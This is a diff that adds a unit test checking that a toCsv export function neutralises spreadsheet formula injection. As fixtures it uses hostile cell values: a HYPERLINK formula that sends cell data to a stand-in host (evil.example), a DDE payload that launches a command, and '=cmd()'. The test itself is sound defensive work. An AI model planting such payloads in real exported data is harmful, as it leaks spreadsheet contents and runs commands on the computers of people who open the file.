@@ -82,3 +82,23 @@ describe('highlightRuns', () => {
     ]);
   });
 });
+
+describe('toCsv and spreadsheet formulas (defect 10)', () => {
+  it('neutralises cells a spreadsheet would run as a formula (= + - @ tab CR), text from articles included', () => {
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '\t=1', '\r=1'];
+    const csv = toCsv(
+      names.map((name, i) => ({ key: `p:${i}`, type: 'person' as const, name, aliases: ['=1+1'], kind: null, articles: 1, country: null, lat: null, lon: null, date: null })),
+      [{ id: 'ROLE:p:0:p:1', type: 'ROLE', from: 'p:0', to: 'p:1', label: '=cmd()', weight: 1, independent: 1, outlets: 1 }],
+    );
+    // every field that is not a number starts with a character no spreadsheet evaluates
+    const fields = csv.match(/(?<=^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm) ?? [];
+    expect(fields.length).toBeGreaterThan(50);
+    for (const f of fields) {
+      const value = f.startsWith('"') ? f.slice(1, -1).replace(/""/g, '"') : f;
+      if (/^-?\d+$/.test(value)) continue;
+      expect(value, `cell ${JSON.stringify(value)}`).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect(csv).toContain(`'=HYPERLINK`);
+    expect(csv).toContain(`'=cmd()`);
+  });
+});
